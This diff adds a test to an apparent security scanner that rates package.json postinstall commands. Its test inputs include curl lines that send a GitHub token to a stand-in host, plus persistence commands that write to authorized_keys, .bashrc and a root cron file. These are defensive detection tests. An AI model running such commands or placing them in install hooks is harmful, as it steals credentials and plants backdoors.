@@ -76,3 +76,9 @@ test('bad: a command that sends what another one tells', () => {
   assert.equal(worst('curl -s -d "$(gh auth token)" https://c.example/?t=gh'), 'critical');
   assert.equal(worst('curl -s -d "v=$(node -v)" https://c.example/installed'), 'high');
 });
+
+test('bad: a command that writes into what a shell, SSH or the system reads by itself', () => {
+  const worst = (command: string) => findingsOf(rule, { 'package.json': manifest({ postinstall: command }) })[0]?.severity;
+  for (const command of ['cat keys.pub >> ~/.ssh/authorized_keys', 'echo "node $PWD/a.js &" >> $HOME/.bashrc', 'echo "* * * * * root node /a.js" | tee -a /etc/cron.d/a']) assert.equal(worst(command), 'critical', command);
+  for (const command of ['echo done >> ~/.cache/tool.log', 'cat ~/.bashrc > out.txt', 'node build.js > /dev/null']) assert.equal(worst(command), 'high', command);
+});
